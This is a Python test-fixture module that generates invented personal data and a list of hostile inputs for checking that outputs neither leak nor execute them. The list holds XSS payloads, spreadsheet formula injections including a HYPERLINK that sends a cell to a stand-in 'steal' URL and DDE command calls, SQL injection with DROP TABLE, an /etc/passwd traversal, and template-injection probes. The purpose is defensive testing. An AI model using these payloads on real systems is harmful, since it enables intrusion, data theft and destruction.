"""Personal data and hostile text, invented, that no output may show or run."""

from collections.abc import Callable

import pandas as pd
from numpy.random import Generator

FIRST_NAMES = (
    "Ottilie",
    "Casimir",
    "Bronwen",
    "Thaddeus",
    "Ingrid",
    "Lucien",
    "Marisol",
    "Anselm",
    "Perpetua",
    "Evander",
    "Solveig",
    "Basilio",
    "Henrike",
    "Cosmo",
    "Rosalind",
    "Leopold",
    "Ximena",
    "Auberon",
    "Friederike",
    "Gaspard",
)
LAST_NAMES = (
    "Quillfeather",
    "Brandlhuber",
    "Ostermaat",
    "Vellacourt",
    "Thistlewood",
    "Fernandini",
    "Marchbanksy",
    "Holmgrenson",
    "Duvalette",
    "Kirschenhof",
    "Penhallowe",
    "Okonjovic",
    "Silvertoft",
    "Wanderley",
    "Almquister",
    "Drosselmair",
    "Castellanoz",
    "Birkenfeldt",
    "Yarrowby",
    "Montclaireau",
)
STREETS = (
    "{n} Marlowe Street, Fernbridge",
    "{n} Old Mill Lane, Ashcombe",
    "Lindenstraße {n}, 99999 Neudorf",
    "{n} rue des Tilleuls, 00100 Montvert",
    "Calle del Olmo {n}, 00200 Villaverde",
    "Flat 2, {n} Harbour Road, Saltmouth",
)
# Ranges kept free for fiction: 555-01xx (North America), 020 7946 0xxx and
# 07700 900xxx (United Kingdom), 030 23125xxx (Germany), 01 99 00 xx xx (France).
PHONES = (
    "(212) 555-01{a}",
    "+1 202-555-01{a}",
    "415.555.01{a}",
    "020 7946 0{b}",
    "+44 7700 900{b}",
    "07700 900{b}",
    "+49 30 23125{b}",
    "030/23125-{b}",
    "+33 1 99 00 {a} {c}",
    "01 99 00 {a} {c}",
)
SENTENCES = {
    "name": (
        "My name is {x}.",
        "Regards, {x}",
        "I'm {x} and I live alone.",
        "Kind regards\n{x}",
    ),
    "email": ("Write to {x} please.", "my mail is {x}", "Contact me: {x}"),
    "phone": ("Call me on {x}.", "My number is {x}", "tel. {x}"),
    "card": ("I paid with card {x}.", "card no. {x} was charged twice"),
    "address": ("Please send it to {x}.", "I live at {x}.", "Wrong door, I am at {x}"),
}
HOSTILE = (
    "<script>document.title='owned'</script> nice shop",
    '<img src=x onerror="document.title=1"> arrived broken',
    "<svg/onload=alert(1)>",
    "</td></table><h1>Closed</h1><a href='javascript:alert(2)'>click</a>",
    '=HYPERLINK("http://example.com/steal?q="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "Robert'); DROP TABLE responses;--",
    "' OR '1'='1",
    "../../etc/passwd {nps} {{ 7*7 }} ${7*7} %s %n",
    "\u202eeman ym si siht\u202c right to left",
    "مرحبا، التوصيل كان بطيئا جدا",
    "👍🏽🙏👩‍👩‍👧‍👦🇪🇺 great!!",
    "zero\u200bwidth\u200djoiner\ufeff",
    "\u200b\u200b",
    "$E=mc^2$ and \\begin{document} **bold** [x](javascript:alert(3)) | a | b |",
    'comma, "quote" and\r\nline break; semicolon',
    "",
)


def invent_personal(rng: Generator, *, count: int) -> pd.DataFrame:
    """Invent personal data and sentences that carry it.

    Parameters
    ----------
    rng : Generator
        Source of randomness: another seed gives other persons.
    count : int
        Number of sentences.

    Returns
    -------
    DataFrame
        `kind` (name, email, phone, card, address), `planted` (the string that must
        not appear in any output) and `sentence`.

    Examples
    --------
    >>> import numpy as np
    >>> invent_personal(np.random.default_rng(1), count=5)["kind"].tolist()
    ['name', 'email', 'phone', 'card', 'address']
    """
    makers: dict[str, Callable[[Generator, int], str]] = {
        "name": _name,
        "email": _email,
        "phone": _phone,
        "card": _card,
        "address": _address,
    }
    kinds = [list(makers)[number % len(makers)] for number in range(count)]
    planted = [
        makers[kind](rng, number // len(makers)) for number, kind in enumerate(kinds)
    ]
    sentences = [
        SENTENCES[kind][number % len(SENTENCES[kind])].format(x=one)
        for number, (kind, one) in enumerate(zip(kinds, planted, strict=True))
    ]
    return pd.DataFrame({"kind": kinds, "planted": planted, "sentence": sentences})


def hostile_texts() -> list[str]:
    """Give the texts that try to run, to break out or to confuse.

    Returns
    -------
    list of str
        Mark-up, formulas, SQL, paths, scripts of other directions, invisible
        characters, nothing at all, and one text of 5,000 characters.

    Examples
    --------
    >>> max(len(text) for text in hostile_texts())
    5000
    """
    long = ("the parcel, the parcel, where is the parcel " * 120)[:5_000]
    return [*HOSTILE, long]


def has_valid_checksum(digits: str) -> bool:
    """Say whether a card number passes the Luhn check.

    Parameters
    ----------
    digits : str
        The number; everything but digits is ignored.

    Returns
    -------
    bool
        True when the weighted digit sum is a multiple of ten.

    Examples
    --------
    >>> has_valid_checksum("4242 4242 4242 4242")
    True
    >>> has_valid_checksum("4242 4242 4242 4241")
    False
    """
    numbers = [int(one) for one in reversed(digits) if one.isdigit()]
    doubled = [sum(divmod(2 * one, 10)) for one in numbers[1::2]]
    return (sum(numbers[::2]) + sum(doubled)) % 10 == 0


def _name(rng: Generator, _: int) -> str:
    return f"{rng.choice(FIRST_NAMES)} {rng.choice(LAST_NAMES)}"


def _email(rng: Generator, turn: int) -> str:
    first, last = _name(rng, turn).lower().split(" ")
    host = ("example.com", "example.org", "mail.example.net")[turn % 3]
    shape = ("{f}.{l}{n}", "{l}_{f}+shop{n}", "{f}{n}")[turn % 3]
    return shape.format(f=first, l=last, n=rng.integers(10, 999)) + "@" + host


def _phone(rng: Generator, turn: int) -> str:
    a, c = rng.integers(10, 100, 2)
    return PHONES[turn % len(PHONES)].format(a=a, b=rng.integers(100, 1000), c=c)


def _card(rng: Generator, turn: int) -> str:
    """A number with a test prefix that passes the Luhn check."""
    stem = "400000" + "".join(str(one) for one in rng.integers(0, 10, 9))
    number = next(
        stem + str(last) for last in range(10) if has_valid_checksum(stem + str(last))
    )
    groups = [number[start : start + 4] for start in range(0, 16, 4)]
    return ("", " ", "-")[turn % 3].join(groups)


def _address(rng: Generator, turn: int) -> str:
    return STREETS[turn % len(STREETS)].format(n=rng.integers(3, 200))
